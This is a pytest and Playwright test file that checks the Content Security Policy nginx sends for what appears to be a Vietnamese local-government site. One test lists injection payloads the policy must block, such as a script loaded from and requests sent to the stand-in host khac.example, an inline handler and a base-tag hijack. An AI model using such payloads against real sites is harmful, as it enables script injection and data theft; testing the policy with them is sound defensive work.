"""Every kind of page under the policy that nginx really sends: nothing that the site needs is refused to it."""

from __future__ import annotations

import base64
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import Browser, ConsoleMessage, Page, expect

from tests.browser.test_article_tools import SHARING, VOICE
from tests.browser.test_video import RECORDED
from tests.serving.nginx import RunningNginx
from tests.serving.town import MOVED, served_town

ARTICLE = "tin/2018/12/huyen-thu-nghiem-hop-thu/"
VIOLATED = """document.addEventListener("securitypolicyviolation", (one) =>
  console.error(`policy: ${one.effectiveDirective} ${one.blockedURI} ${one.sourceFile}:${one.lineNumber}`));"""
PAGES = (
    *("", ARTICLE, MOVED, "tin/", "tin/trang-2/", "tin/2018/12/da-rut/", "can-bo/", "can-bo/nguyen-thi-mau/"),
    *("dia-phuong/", "dia-phuong/thu-nghiem/", "ban-do/", "van-ban/", "the/", "tac-gia/", "luu-tru/", "dinh-chinh/"),
    *("thu-vien-anh/cho-mau/", "bai-hat/", "bai-hat/bai-ca-thu/", "gop-y/", "du-lieu/", "tim-kiem/?q=mẫu"),
    *("khong-co/", "tin/2017/01/da-xoa/", "images/mau.svg", "feeds/tat-ca.atom.xml"),
)


@dataclass
class Reading:
    """A page under the policy and what went wrong on it: words of the console, addresses asked of others."""

    page: Page
    url: str
    said: list[str] = field(default_factory=list)
    strangers: list[str] = field(default_factory=list)

    def go(self, address: str) -> None:
        """Open a page of the site and wait until everything on it is loaded."""
        self.page.goto(f"{self.url}/{address}")
        self.page.evaluate("for (const one of document.images) one.loading = 'eager'")
        self.page.wait_for_function("[...document.images].every((one) => one.complete)")

    def note(self, message: ConsoleMessage) -> None:
        if message.type in ("error", "warning") and "the server responded with a status of 4" not in message.text:
            self.said.append(message.text)


@pytest.fixture(scope="module")
def served(tmp_path_factory: pytest.TempPathFactory) -> Iterator[RunningNginx]:
    """A published site behind nginx."""
    with served_town(tmp_path_factory.mktemp("town")) as running:
        yield running


@pytest.fixture
def read(browser: Browser, served: RunningNginx) -> Iterator[Callable[..., Reading]]:
    """Return `read(*stubs)`: a page that notes what is refused, with a device's abilities as the stubs give them."""
    contexts = []

    def open_one(*stubs: str) -> Reading:
        context = browser.new_context(ignore_https_errors=True, locale="vi-VN", reduced_motion="reduce")
        contexts.append(context)
        reading = Reading(context.new_page(), served.url)
        page = reading.page
        for stub in (VIOLATED, *stubs):
            page.add_init_script(stub)
        page.on("console", reading.note)
        page.on("pageerror", lambda error: reading.said.append(str(error)))
        page.on("request", lambda one: reading.strangers.append(one.url) if is_strange(one.url, served.url) else None)
        return reading

    yield open_one
    for context in contexts:
        context.close()


def is_strange(address: str, site: str) -> bool:
    """Whether an address is on another host than the site."""
    return urlsplit(address).scheme in ("http", "https") and urlsplit(address).netloc != urlsplit(site).netloc


def test_every_kind_of_page_opens_without_a_word_of_the_policy(read: Callable[..., Reading]) -> None:
    reading = read()
    for address in PAGES:
        reading.go(address)
        assert (reading.said, reading.strangers) == ([], []), address


def test_what_the_policy_forbids_is_refused_and_noticed(read: Callable[..., Reading]) -> None:
    for attack in (
        "document.body.append(Object.assign(document.createElement('script'), {textContent: 'window.ran = 1'}))",
        "document.body.append(Object.assign(document.createElement('script'), {src: 'https://khac.example/x.js'}))",
        "document.body.append(Object.assign(document.createElement('style'), {textContent: 'p {color: red}'}))",
        "document.body.setAttribute('style', 'color: red')",
        "document.body.append(Object.assign(new Image(), {src: 'https://khac.example/x.png'}))",
        "document.body.append(Object.assign(document.createElement('iframe'), {src: '/'}))",
        "document.head.append(Object.assign(document.createElement('base'), {href: 'https://khac.example/'}))",
        "void fetch('https://khac.example/').catch(() => {})",
        "document.body.setAttribute('onclick', 'window.ran = 1'); document.body.click()",
        "void WebAssembly.compile(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])).catch(console.error)",
        "document.body.append(Object.assign(document.createElement('form'), {action: 'https://khac.example/'}));"
        " document.body.lastElementChild.submit()",
    ):
        reading = read()
        reading.go(ARTICLE)
        # Evaluated by the page itself: what the debugger evaluates, no policy stops.
        reading.page.evaluate(attack)
        reading.page.wait_for_timeout(300)
        assert reading.said, attack
        assert reading.page.evaluate("window.ran") is None


def test_the_search_finds_under_the_policy(read: Callable[..., Reading]) -> None:
    reading = read()
    reading.go("tim-kiem/")
    reading.page.get_by_role("searchbox").last.fill("họp thử")
    reading.page.keyboard.press("Enter")
    expect(reading.page.locator("main .bt-result, main article, main li a").first).to_be_visible()
    expect(reading.page.get_by_role("link", name="Huyện Thử Nghiệm họp thử").first).to_be_visible()
    assert reading.said == []


def test_the_tools_around_an_article_work_under_the_policy(read: Callable[..., Reading]) -> None:
    reading = read(VOICE, SHARING, "window.print = () => { window.printed = true; };")
    reading.go(MOVED)
    page = reading.page
    page.locator("[data-bt-listen]").click()
    page.wait_for_function("window.said.length > 0")
    with page.expect_download() as saved:
        page.locator("[data-bt-save]").click()
    text = saved.value.path().read_text(encoding="utf-8")
    assert "data:image/" in text
    assert "<style>" in text
    page.locator("[data-bt-print]").click()
    assert page.evaluate("window.printed")
    page.emulate_media(media="print")
    page.pdf()
    page.emulate_media(media="screen")
    page.locator(".bt-figure__whole, .bt-lead a").first.click()
    assert reading.said == []


def test_pictures_are_enlarged_and_a_video_plays_under_the_policy(
    read: Callable[..., Reading], served: RunningNginx
) -> None:
    reading = read()
    reading.go("thu-vien-anh/cho-mau/")
    page = reading.page
    recorded = base64.b64decode(page.evaluate(RECORDED))
    (served.root / "media" / "cho.webm").write_bytes(recorded)
    reading.go("thu-vien-anh/cho-mau/")
    page.evaluate("document.querySelector('video').muted = true; document.querySelector('video').play()")
    page.wait_for_function("document.querySelector('video').currentTime > 0")
    page.locator(".bt-figure__whole").first.click()
    expect(page.get_by_role("dialog", name="Ảnh phóng to")).to_be_visible()
    assert reading.said == []


def test_a_form_goes_to_the_service_that_the_site_names_and_to_no_other(read: Callable[..., Reading]) -> None:
    reading = read()
    page = reading.page
    sent: list[str] = []

    def take(route: object) -> None:
        sent.append(route.request.url)  # type: ignore[attr-defined]
        route.fulfill(body="<p>Cảm ơn</p>", content_type="text/html; charset=utf-8")  # type: ignore[attr-defined]

    page.route("https://gop-y.thu-nghiem.example/**", take)
    reading.go("gop-y/")
    page.locator("main form textarea").first.fill("Một lời thử.")
    page.locator("main form [type=submit], main form button").last.click()
    expect(page.get_by_text("Cảm ơn")).to_be_visible()
    assert sent == ["https://gop-y.thu-nghiem.example/gui"]
    assert reading.said == []
